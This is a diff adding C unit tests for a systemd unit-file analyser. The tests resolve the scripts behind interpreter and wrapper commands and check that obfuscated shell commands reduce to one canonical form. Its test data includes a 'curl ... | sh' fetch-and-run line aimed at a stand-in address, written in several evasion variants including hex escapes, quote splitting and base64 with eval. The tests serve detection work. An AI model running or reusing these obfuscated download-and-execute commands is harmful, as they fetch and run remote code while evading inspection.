@@ -170,6 +170,92 @@ START_TEST(standard_input_is_decoded)
 }
 END_TEST
 
+/* What the one command of a unit comes down to. */
+static void expect_script(const char *expected, const char *command)
+{
+    char lines[2048];
+
+    snprintf(lines, sizeof lines, "WorkingDirectory=/srv\nExecStart=%s", command);
+    service(lines);
+    expect(expected, "SELECT script FROM ROOT");
+}
+
+START_TEST(the_script_of_an_interpreter_is_found)
+{
+    expect_script("/opt/x.sh", "/bin/sh /opt/x.sh a");
+    expect_script("/srv/x", "/bin/bash -eu -o pipefail x");
+    expect_script("/tmp/rc", "/bin/bash --rcfile /tmp/rc -i");
+    expect_script("/srv/a.py", "/usr/bin/python3.11 -u -W ignore a.py");
+    expect_script("NULL", "/usr/bin/python3 -m http.server");
+    expect_script("/x.pl", "/usr/bin/perl -w -I /usr/lib /x.pl");
+    expect_script("NULL", "/usr/bin/perl -we 'print 1' /x.pl");
+    expect_script("/x.js", "/usr/bin/node --require ./a --inspect /x.js");
+    expect_script("/x.php", "/usr/bin/php -d a=b -f /x.php");
+    expect_script("/x.php", "/usr/bin/php8.2 -c /etc/php /x.php");
+    expect_script("/x.rb", "/usr/bin/ruby -rsocket -I lib /x.rb");
+    expect_script("/x.jar", "/usr/bin/java -Xmx1g -jar /x.jar");
+    expect_script("NULL", "/usr/bin/java -cp /x.jar a.Main");
+    expect_script("/x.awk", "/usr/bin/awk -F : -f /x.awk");
+}
+END_TEST
+
+START_TEST(the_program_of_a_wrapper_is_found)
+{
+    expect_script("/opt/x", "/usr/bin/env -u B A=1 /opt/x y");
+    expect_script("/opt/x.py", "/usr/bin/env -S \"python3 -u /opt/x.py\"");
+    expect_script("/opt/x", "/usr/bin/busybox sh /opt/x");
+    expect_script("/tmp/r/x", "/usr/sbin/chroot /tmp/r /x");
+    expect_script("/opt/x", "/lib64/ld-linux-x86-64.so.2 --library-path /l /opt/x");
+    expect_script("/opt/x", "/usr/bin/nice -n 5 /usr/bin/ionice -c 3 /opt/x");
+    expect_script("/opt/x", "/sbin/start-stop-daemon --start --exec /opt/x -- -d");
+    expect_script("/opt/x", "/usr/bin/flock /run/l -c 'exec /opt/x -d'");
+    expect_script("/opt/x", "/usr/bin/systemd-run --unit=a /opt/x");
+    expect_script("sleep", "/usr/bin/nice sleep 1");
+    expect_script("/opt/x", "/bin/sh -c 'cd /tmp && umask 077; exec /opt/x'");
+    expect_script("/opt/x", "/bin/sh -c '. /opt/x'");
+    expect_script("/tmp/x", "/bin/sh -c 'cd /tmp; ./x'");
+    expect_script("NULL", "/bin/sh -c '/opt/x; /opt/y'");
+}
+END_TEST
+
+START_TEST(scripts_and_standard_input_are_read)
+{
+    service("ExecStart=/opt/s\nExecStartPost=/bin/sh /opt/s\nExecStop=/opt/b\n"
+            "ExecStopPost=/bin/sh -c 'a'");
+    file("opt/s", "#!/bin/sh\nid\n");
+    file("opt/b", "\177ELF");
+    expect("#!/bin/sh\nid\n|NULL\n#!/bin/sh\nid\n|script\nNULL|NULL\nNULL|missing",
+           "SELECT script_text, script_kind FROM ROOT");
+    service("ExecStart=/bin/sh\nStandardInputText=cu\\x72l x|sh");
+    expect("/bin/sh\ncurl x | sh|[\"/bin/sh\", \"curl\", \"sh\"]",
+           "SELECT canonical, runs FROM ROOT");
+    service("ExecStart=/bin/sh\nStandardInput=file:/tmp/x");
+    expect("/tmp/x", "SELECT script FROM ROOT");
+}
+END_TEST
+
+START_TEST(the_canonical_form_is_that_of_the_plain_form)
+{
+    static const char *const forms[] = {
+        "/bin/sh -c \"cu\\x72l -s http://192.0.2.1/p \\\n | s\\x68\"",
+        "/bin/sh -c 'c\"\"url -s$IFS\\'http://192.0.2.1/p\\'|s\\\\h'",
+        "/bin/sh -c ${CMD}",
+        "/bin/sh -c 'X=curl; $$X -s ${U} | \"s\"\\\\h'",
+        "/bin/sh -c 'eval \"$$(echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3AgfCBzaA== | base64 -d)\"'",
+    };
+    char lines[2048];
+
+    for (size_t i = 0; i < sizeof forms / sizeof forms[0]; i++) {
+        snprintf(lines, sizeof lines,
+                 "Environment=\"CMD=curl -s http://192.0.2.1/p | sh\" U=http://192.0.2.1/p\n"
+                 "ExecStart=%s",
+                 forms[i]);
+        service(lines);
+        expect("1", "SELECT canonical GLOB '*curl -s http://192.0.2.1/p | sh' FROM ROOT");
+    }
+}
+END_TEST
+
 Suite *make_unit_commands_suite(void)
 {
     Suite *s = suite_create("unit_commands");
@@ -185,6 +271,10 @@ Suite *make_unit_commands_suite(void)
     tcase_add_test(t, a_shell_is_given_all_words_with_the_prefix_of_258);
     tcase_add_test(t, text_is_one_line);
     tcase_add_test(t, standard_input_is_decoded);
+    tcase_add_test(t, the_script_of_an_interpreter_is_found);
+    tcase_add_test(t, the_program_of_a_wrapper_is_found);
+    tcase_add_test(t, scripts_and_standard_input_are_read);
+    tcase_add_test(t, the_canonical_form_is_that_of_the_plain_form);
     suite_add_tcase(s, t);
     return s;
 }
